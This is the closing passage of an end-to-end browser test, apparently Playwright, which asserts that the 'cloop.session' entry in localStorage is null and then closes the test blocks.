      await expect(page.evaluate(() => localStorage.getItem('cloop.session'))).resolves.toBeNull();
    }, 60_000);
  });
});
